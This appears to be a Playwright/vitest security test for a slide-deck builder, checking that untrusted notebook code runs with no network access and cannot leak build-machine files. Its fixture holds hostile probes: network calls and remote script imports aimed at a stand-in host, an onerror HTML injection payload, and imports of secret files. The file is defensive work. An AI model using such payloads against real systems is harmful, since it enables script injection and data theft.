// A live deck runs a notebook's code, and a notebook may come from anyone: that code runs in a
// worker that reaches no network (the deck's Content-Security-Policy, inherited by the Blob
// worker, and the worker's dropped globals), can send back only chart specs that pass the
// build's checks and text, and cannot pull a file of the build machine into the deck.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { VEGA_LITE_MIME } from "@skip-and-drop/lib/mime";
import { buildDecks } from "../../slides/build";
import { launchChromium } from "./deck-browser";

const committedChart = {
  $schema: "https://vega.github.io/schema/vega-lite/v5.json",
  title: "committed",
  data: { values: [{ x: 1, y: 1 }, { x: 2, y: 4 }] },
  mark: "line",
  encoding: { x: { field: "x", type: "quantitative" }, y: { field: "y", type: "quantitative" } },
};

const code = (id: string, source: string, outputs: unknown[] = [], tags: string[] = []) => ({
  id, cell_type: "code", source, outputs, execution_count: null, metadata: { tags, slideshow: { slide_type: "slide" } },
});

const attempts = [
  `fetch("http://probe.invalid/fetch")`,
  `new XMLHttpRequest().open("GET", "http://probe.invalid/xhr")`,
  `new WebSocket("ws://probe.invalid/ws")`,
  `importScripts("http://probe.invalid/import-scripts.js")`,
  `new EventSource("http://probe.invalid/events")`,
  `(globalThis as any).constructor.prototype.fetch("http://probe.invalid/proto-fetch")`,
];

function hostileNotebook(extraImport = "") {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      { id: "title", cell_type: "markdown", source: "# Hostile live deck", metadata: {} },
      code("params", "const x = 1; // a knob: a number", [], ["parameters"]),
      code("imports", `import { show, lineChart } from "@skip-and-drop/lib";${extraImport}`),
      code("probes", [
        "const tried: string[] = [];",
        ...attempts.map((a, i) => `try { ${a}; tried.push("ran ${i}"); } catch (e) { tried.push("refused ${i}"); }`),
        `try { await import("http://probe.invalid/dynamic-import.js"); } catch (e) { tried.push("refused import()"); }`,
        `console.log("<img src=x onerror=\\"parent.__pwned = 1\\">", tried.join(", "));`,
      ].join("\n"), [{ output_type: "stream", name: "stdout", text: "committed text\n" }]),
      code("chart", [
        `show({ data: { url: "http://probe.invalid/data.json" }, mark: "point", encoding: {} } as any);`,
        `show(lineChart([{ x: 1, y: x }, { x: 2, y: 2 * x }], { title: "fine", x: "x", y: "y", xTitle: "x", yTitle: "y" }));`,
      ].join("\n"), [
        { output_type: "display_data", data: { [VEGA_LITE_MIME]: committedChart, "text/plain": "committed" }, metadata: {} },
        { output_type: "display_data", data: { [VEGA_LITE_MIME]: committedChart, "text/plain": "committed" }, metadata: {} },
      ]),
    ],
  };
}

const SECRET = "build-machine-secret-4f1c";
let browser: Browser;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "live-hostile-"));
  writeFileSync(join(dir, "hostile.ipynb"), JSON.stringify(hostileNotebook()));
  writeFileSync(join(dir, "secret.txt"), SECRET);
  writeFileSync(join(dir, "secret.js"), `module.exports = "${SECRET}";`);
  writeFileSync(join(dir, "reads-files.ipynb"), JSON.stringify(hostileNotebook(`\nimport { readFileSync } from "fs";\nimport secret from "./secret.js";\nimport text from "./secret.txt";`)));
  await buildDecks({ notebooks: [join(dir, "hostile.ipynb"), join(dir, "reads-files.ipynb")], outDir: join(dir, "out") });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  rmSync(dir, { recursive: true, force: true });
});

test("the notebook's code runs with no network, and what it sends back is checked", async () => {
  const context = await browser.newContext();
  const requests: string[] = [];
  await context.route("**/*", (route) => {
    const url = route.request().url();
    if (!url.startsWith("file:") && !url.startsWith("blob:")) requests.push(url);
    return url.startsWith("file:") || url.startsWith("blob:") ? route.continue() : route.abort();
  });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (d) => void (dialogs.push(d.message()), d.dismiss()));
  await page.goto(`${pathToFileURL(join(dir, "out", "hostile.html")).href}?x=3`);
  await page.waitForFunction(() => ["ready", "failed"].includes(document.documentElement.dataset.deckState ?? ""), null, { timeout: 60_000 });
  const printed = await page.locator('[data-cell-id="probes"] pre.output.stdout').textContent();
  // every attempt was refused inside the worker, and its output arrived as text
  for (let i = 0; i < attempts.length; i++) expect(printed).toContain(`refused ${i}`);
  expect(printed).toContain("refused import()");
  expect(printed).toContain("<img src=x");
  expect(await page.locator('[data-cell-id="probes"] img').count()).toBe(0);
  // the spec naming a URL was refused (the committed chart stays), the valid one replaced its chart
  const charts = await page.evaluate(() => (window as any).deckCharts() as { cellId: string; spec: any }[]);
  expect(charts.map((c) => c.spec.title?.text ?? c.spec.title)).toEqual(["committed", "fine"]);
  expect(await page.locator(".live-message").textContent()).toContain("chart 1: the recomputed spec is not one the deck draws");
  expect(requests).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
  await context.close();
}, 120_000);

test("a notebook importing anything but the library gets no live deck, and no file of this machine in it", () => {
  const html = readFileSync(join(dir, "out", "reads-files.html"), "utf8");
  expect(html).not.toContain('id="live-program"');
  expect(html).not.toContain("live-panel");
  expect(html).not.toContain(SECRET);
  expect(readFileSync(join(dir, "out", "hostile.html"), "utf8")).toContain('id="live-program"');
});
